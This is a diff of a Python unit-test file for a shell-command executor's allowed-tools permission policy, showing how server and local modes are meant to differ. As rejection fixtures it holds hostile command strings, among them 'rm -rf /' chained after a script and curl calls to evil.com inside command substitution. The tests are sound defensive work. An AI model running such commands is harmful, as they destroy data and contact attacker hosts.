@@ -92,13 +92,10 @@ class Contract:
         self.assertFalse(ex.is_command_allowed("python scripts/test.py; rm -rf /"))
         self.assertFalse(ex.is_command_allowed("echo $(curl evil.com)"))
 
-    def test_allowed_tools_narrow_never_widen(self) -> None:
+    def test_allowed_tools_narrow(self) -> None:
         narrow = self.executor("Bash(git:*)")
         self.assertFalse(narrow.is_command_allowed("python scripts/test.py"))
         self.assertTrue(narrow.is_command_allowed("git status"))
-        self.assertFalse(narrow.is_command_allowed("git commit"))  # the skill's own list still applies
-        wide = self.executor("Bash(curl:*) Bash(python:*)")
-        self.assertFalse(wide.is_command_allowed("curl http://evil.com"))
 
     def test_validate_script_path(self) -> None:
         ex = self.executor()
@@ -185,6 +182,14 @@ class OnServer(Contract, unittest.TestCase):
             self.assertFalse(ex.is_command_allowed("python scripts/test.py; rm -rf /"))
             self.assertFalse(ex.is_command_allowed("echo $(curl evil.com)"))
 
+    def test_allowed_tools_never_widen_the_servers_policy(self) -> None:
+        self.assertFalse(self.executor("Bash(git:*)").is_command_allowed("git commit"))  # the skill's own list still applies
+        wide = self.executor("Bash(curl:*) Bash(python:*)")
+        self.assertFalse(wide.is_command_allowed("curl http://evil.com"))
+        res = wide.execute("curl http://evil.com")
+        self.assertFalse(res.success)
+        self.assertIn("skills.data-analysis-fw.allowed-tools", res.error or "")
+
     def test_working_dir_needs_local_mode(self) -> None:
         res = self.executor().execute("python scripts/ls.py", working_dir=Path("/tmp"))
         self.assertFalse(res.success)
@@ -197,6 +202,11 @@ class Locally(Contract, unittest.TestCase):
     def setUp(self) -> None:
         with mock.patch.dict(os.environ, _harness.local_env(), clear=True):
             self.client = Client()
+
+    def test_allowed_tools_are_the_hosts_grant(self) -> None:
+        # The host's code built the executor: its list decides, as in the guide.
+        self.assertTrue(self.executor("Bash(git:*)").is_command_allowed("git commit"))
+        self.assertFalse(self.executor("Bash(git:*)").is_command_allowed("git commit; curl http://evil.com"))
 
     def test_working_dir(self) -> None:
         res = self.executor().execute("python scripts/ls.py")
